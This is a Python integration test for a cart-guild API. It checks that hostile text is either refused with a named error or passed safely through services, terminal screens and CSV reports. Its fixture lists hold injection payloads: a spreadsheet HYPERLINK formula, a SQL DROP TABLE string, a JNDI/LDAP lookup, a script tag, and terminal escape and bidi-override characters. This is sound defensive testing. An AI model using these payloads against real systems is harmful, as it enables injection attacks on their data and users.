"""The worst text a stranger could type, through every part (issue 12: accepted means processable).

Hostile text goes in through the real API under gunicorn: text that is valid but means
something somewhere else (a spreadsheet formula, rich markup, SQL, a format string, a script,
right-to-left and CJK script, combining marks, the longest allowed) and text that must be
refused (NUL, bidi overrides, zero-width and BOM characters, escape sequences, line
separators, lone surrogates, one character too many, only spaces).

What the API refuses gets a 4xx naming the field and never reaches a topic. What it accepts
(202) flows through everything that reads it: the stock and location services (no dead
letter, no crash, caught up), the daily drain and the members drain (every row inserted),
the monthly decision (members approved under those names), the live view and its board, the
membership screens and the daily report files, whose CSV cells cannot run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import random
import unicodedata
import uuid
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from psycopg.rows import dict_row
from rich.console import Console
from stdnum.cl import rut as stdnum_rut

from consumers.locations import board
from gremio import db, members_cli, membership, sales_daily_report, sales_stats
from gremio import topics as t
from gremio.records import Sale
from gremio.settings import get_settings
from gremio.tokens import cart_token
from tests.reliability.oracle import check_orders, dead_letters, drain, expected_orders, ids_in_table
from tests.support import (
    ApiServer,
    caught_up,
    commit_at_end,
    high_watermarks,
    new_plate,
    read_range,
    wait_for,
)

# Valid text that means something to a spreadsheet, a terminal, a template or a database.
VALID = [
    '=HYPERLINK("http://x.cl","ver")',
    "+56 9 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "'; DROP TABLE sales;--",
    "[/b][red]Ana[/red]",
    "{0}%s%n${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "Zoë 🥟🇨🇱 مرحبا 漢字",
    "Z\u0337\u0322a\u0338l\u0335g\u0336o\u0337",  # combining marks
    "x" * 80,
    "  Ana   María  ",
]
# Text every field must refuse, and the character (or rule) the error names.
REFUSED = [
    ("a\x00b", "U+0000"),
    ("abc\u202eedc", "U+202E"),
    ("a\u200bb", "U+200B"),
    ("\x1b[31mrojo", "U+001B"),
    ("a\x85b", "U+0085"),
    ("a\u2028b", "U+2028"),
    ("\ufeffAna", "U+FEFF"),
    ("a\u2066b", "U+2066"),
    ("x" * 81, "1 to 80"),
    ("   ", "1 to 80"),
]
ORIGIN = (-33.4372, -70.6506)


def a_rut(rng: random.Random) -> str:
    body = str(rng.randrange(30_000_000, 39_999_999))
    return f"{body}-{stdnum_rut.calc_check_digit(body)}"


def controls(text: str) -> list[str]:
    """Control and format characters in rendered output, other than its line ends."""
    return [f"U+{ord(c):04X}" for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf")]


def refused_field(answer, field: str, said: str) -> None:
    assert answer.status == 422, (answer.status, answer.body[:500])
    errors = {e["field"]: e["message"] for e in answer.json()["errors"]}
    assert said in errors[field], errors


def test_hostile_text_is_refused_at_the_door_or_processed_by_every_part(services, tmp_path):
    rng = random.Random(12)
    settings = get_settings()
    tz = ZoneInfo(settings.guild_timezone)
    plates = [new_plate(rng) for _ in VALID]
    started = datetime.now(UTC) - timedelta(seconds=1)
    groups = {name: f"hostile-{name}-{uuid.uuid4()}" for name in ("stock", "locations", "sales", "members")}
    commit_at_end(groups["stock"], [t.SALES.name])
    commit_at_end(groups["locations"], [t.LOCATIONS.name, t.SALES.name])
    commit_at_end(groups["sales"], [t.SALES.name])
    commit_at_end(groups["members"], [t.MEMBERS.name])
    marks = high_watermarks([t.SALES.name, t.LOCATIONS.name, t.MEMBERS.name, t.DEADLETTER.name])
    accepted: dict[str, set[str]] = {t.SALES.name: set(), t.LOCATIONS.name: set(), t.MEMBERS.name: set()}

    def took(topic: str, answer) -> None:
        assert answer.status == 202, (answer.status, answer.body[:500])
        accepted[topic].add(answer.json()["id"])

    with ApiServer(
        tmp_path / "api.log", RATE_LIMIT_MEMBERS="1000/minute", RATE_LIMIT_REPORTS="1000/minute"
    ) as api:
        api.wait_ready()

        # Applications: each hostile name a master, on a plate of their own.
        for name, plate in zip(VALID, plates, strict=True):
            body = {"nombre": name, "apellido": name, "rut": a_rut(rng), "email": f"{plate.lower()}@example.cl",
                    "patente": plate, "premium": False}  # fmt: skip
            took(t.MEMBERS.name, api.post("/v1/members", body))
        for text, said in REFUSED:
            body = {"first_name": text, "last_name": "Soto", "rut": a_rut(rng), "email": "x@example.cl",
                    "plate": new_plate(rng)}  # fmt: skip
            refused_field(api.post("/v1/members", body), "first_name", said)
        # A lone surrogate cannot be UTF-8: the JSON itself is refused.
        raw = b'{"first_name": "\\ud800", "last_name": "Soto", "rut": "12.345.678-5", "email": "x@example.cl", "plate": "AB1234"}'
        surrogate = api.post("/v1/members", raw)
        assert surrogate.status == 400, surrogate.body

        # The monthly decision approves them under those names (DESIGN §6), as the DAG does.
        members_drain = drain(
            t.MEMBERS.name, "member_applications", "gremio.records.MemberApplication", groups["members"],
            message_columns={"kafka_partition": "partition", "kafka_offset": "offset"},
        )  # fmt: skip
        assert (members_drain["inserted"], members_drain["deadlettered"]) == (len(VALID), 0)
        with db.connect() as conn:
            decisions = membership.decide_pending(
                conn, premium=False, decided_by="test_hostile_input", received_from=started
            )
        assert sorted(d.status for d in decisions) == ["approved"] * len(VALID), [
            d.rejection for d in decisions
        ]

        stock = services.stock(groups["stock"])
        live = services.locations(groups["locations"])
        wait_for(
            lambda: "assigned" in stock.output() and "assigned" in live.output(), timeout=90, what="assigned"
        )

        # Sales: every hostile client on every cart, one refill's worth of stock left on the first.
        for i, plate in enumerate(plates):
            auth = {"Authorization": f"Bearer {cart_token(plate)}"}
            lat, lon = ORIGIN[0] + i / 1000, ORIGIN[1]
            for j, client in enumerate(VALID):
                sale = {"plate": plate, "client": client, "quantity": 1 + j % 3,
                        "stock_remaining": 15 if i == 0 else 60, "location": {"lat": lat, "lon": lon}}  # fmt: skip
                took(t.SALES.name, api.post("/v1/sales", sale, auth))
            for text, said in REFUSED:
                sale = {"plate": plate, "client": text, "quantity": 1, "stock_remaining": 60,
                        "location": {"lat": lat, "lon": lon}}  # fmt: skip
                refused_field(api.post("/v1/sales", sale, auth), "client", said)
            # A batch mixing both: the good ones land, each bad one is named by its index.
            items = [{"plate": plate, "client": text, "quantity": 1, "stock_remaining": 60,
                      "location": {"lat": lat, "lon": lon}} for text in (VALID[i], REFUSED[i % len(REFUSED)][0])]  # fmt: skip
            batch = api.post("/v1/sales/batch", {"sales": items}, auth)
            assert batch.status == 202, batch.body
            results = batch.json()["results"]
            accepted[t.SALES.name].add(results[0]["id"])
            assert results[1]["status"] == 422 and results[1]["errors"][0]["field"] == "sales[1].client"
            # Its position, the plate typed in fullwidth forms and lower case.
            typed = "".join(chr(ord(c) + 0xFEE0) for c in plate.lower())
            took(
                t.LOCATIONS.name, api.post("/v1/locations", {"patente": typed, "lat": lat, "lon": lon}, auth)
            )

        # Fugitive reports: hostile descriptions near the carts; the refused ones name the character.
        for text in VALID:
            report = {"lat": ORIGIN[0], "lon": ORIGIN[1], "description": f"carro\r\n{text}\tsin logo"}
            took(t.LOCATIONS.name, api.post("/v1/reports", report))
        for text, said in REFUSED:
            if said == "1 to 80":
                continue  # descriptions may be empty or up to 500 characters
            answer = api.post("/v1/reports", {"lat": ORIGIN[0], "lon": ORIGIN[1], "description": text})
            refused_field(answer, "description", said)

    # Exactly what was accepted is on the topics: nothing refused, nothing twice.
    ends = high_watermarks(list(accepted))
    on_topics = read_range({tp: o for tp, o in marks.items() if tp[0] in accepted}, ends)
    for topic, ids in accepted.items():
        seen = [json.loads(m.value())["id"] for m in on_topics if m.topic() == topic]
        assert sorted(seen) == sorted(ids), topic

    # The services read all of it, dead-lettered none of it and are still up.
    caught_up(groups["stock"], [t.SALES.name])
    caught_up(groups["locations"], [t.SALES.name, t.LOCATIONS.name])
    assert stock.alive and live.alive
    for service, topics in ((stock, [t.SALES.name]), (live, [t.SALES.name, t.LOCATIONS.name])):
        for topic in topics:
            assert not service.metric("gremio_consumer_deadlettered_total", topic=topic), service.output()[
                -3000:
            ]
    snapshot = live.live()
    sales = [
        ((m.partition(), m.offset()), Sale.from_bytes(m.value()))
        for m in on_topics
        if m.topic() == t.SALES.name
    ]
    check_orders(expected_orders(sales), plates)
    assert expected_orders(sales), "the low-stock cart has a refill order"

    # The live view: every cart under its master's name, every report with its description.
    carts = {cart["plate"]: cart for cart in snapshot["carts"]}
    masters = {plate: " ".join(f"{name} {name}".split()) for name, plate in zip(VALID, plates, strict=True)}
    assert {p: carts[p]["master"] for p in plates} == masters
    described = {r["description"] for r in snapshot["reports"]}
    assert {f"carro {' '.join(text.split())} sin logo" for text in VALID} <= described
    out = io.StringIO()
    Console(file=out, width=200, color_system=None).print(board.render(snapshot, tz, max_carts=100))
    screen_text = out.getvalue()
    assert controls(screen_text) == []
    assert "[/b][red]Ana" in screen_text, "markup is shown as typed, never interpreted"

    # The drains: every accepted sale is a row, once.
    sales_drain = drain(t.SALES.name, "sales", "gremio.records.Sale", groups["sales"])
    assert (sales_drain["inserted"], sales_drain["deadlettered"]) == (len(accepted[t.SALES.name]), 0)
    assert set(ids_in_table("sales", [uuid.UUID(i) for i in accepted[t.SALES.name]]).values()) == {1}

    # The membership screens show the names as typed, with nothing a terminal would obey.
    with db.connect(row_factory=dict_row) as conn:
        rows = conn.execute(db.query("members_list")).fetchall()
        apps = conn.execute(
            db.query("members_applications_list"),
            {"status": None, "month_start": None, "month_end": None, "limit": None},
        ).fetchall()
    for table in (members_cli.members_table(rows, settings.guild_timezone),
                  members_cli.applications_table(apps, settings.guild_timezone)):  # fmt: skip
        out = io.StringIO()
        Console(file=out, width=400, color_system=None).print(table)
        assert controls(out.getvalue()) == []

    # The daily report files: each master's row, CSV cells that cannot run as formulas.
    day = datetime.now(tz).date()
    with db.connect() as conn:
        rows, totals = sales_stats.compute_day(conn, day, settings)
    written = sales_daily_report.write_daily(
        day, rows, totals, settings.model_copy(update={"reports_dir": tmp_path})
    )
    by_ext = {path.suffix: path for path in written}
    table = list(csv.DictReader(io.StringIO(by_ext[".csv"].read_text("utf-8"), newline="")))
    ours = {row["plate"]: row for row in table if row["plate"] in masters}
    assert set(ours) == set(plates)
    for plate, row in ours.items():
        # As written; one that would start a formula is kept as text by a leading quote.
        formula = masters[plate].startswith(("=", "+", "-", "@"))
        assert row["name"] == ("'" if formula else "") + masters[plate]
        assert not row["name"].startswith(("=", "+", "-", "@")), row["name"]
        assert int(row["sales_count"]) == len(VALID) + 1
    assert controls(by_ext[".txt"].read_text("utf-8")) == []
    json.loads(by_ext[".json"].read_bytes())

    # Nothing anywhere was dead-lettered.
    assert dead_letters({tp: o for tp, o in marks.items() if tp[0] == t.DEADLETTER.name}) == []
